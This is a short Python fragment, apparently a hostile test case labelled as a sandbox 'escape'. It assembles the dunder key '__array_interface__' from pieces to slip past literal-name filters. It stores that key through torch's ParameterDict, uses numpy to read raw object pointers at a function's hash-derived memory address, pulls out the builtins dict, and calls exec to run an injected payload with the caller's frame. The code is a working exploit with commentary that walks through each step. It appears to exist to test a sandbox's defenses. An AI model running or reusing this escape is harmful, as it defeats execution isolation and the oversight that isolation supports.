# ruff: noqa: F821  (a part: the test puts the stub and `_FORGE = "..."` before it)
# rt20 (hostile, escape): a ParameterDict stores its callers' keys as attributes (`setattr(self, key, value)`, a
# dict kept as it is), and a key the file computes is no double-underscore literal: `ParameterDict({k: {...}})` with
# `k` = "__array_interface__" gives the object numpy's array protocol, read on the instance. `numpy.asarray` of it
# lays an array over the address in "data", of the dtype in "typestr": "|O" reads object pointers from memory. The
# default `hash` of a function is its address rotated by 4 bits, and a 3.11 function holds its builtins dict at
# offset 24: `.get("exec")` runs the forger with the runner's frame. Every name is listed; nothing is mistyped.
import numpy
import torch

_k = "_" * 2 + "array_interface" + "_" * 2  # hole: a computed key, stored as an attribute by ParameterDict


def _f():
    return None


_h = hash(_f) & ((1 << 64) - 1)
_a = ((_h << 4) | (_h >> 60)) & ((1 << 64) - 1)  # the function's address
_view = torch.nn.ParameterDict({_k: {"data": (_a + 24, True), "shape": (1,), "typestr": "|O", "version": 3}})
_builtins = numpy.asarray(_view)[0]  # func_builtins: the builtins dict
_builtins.get("exec")("import sys\nexec(_FORGE, {'_frame': sys._getframe(1)})", {"_FORGE": _FORGE})
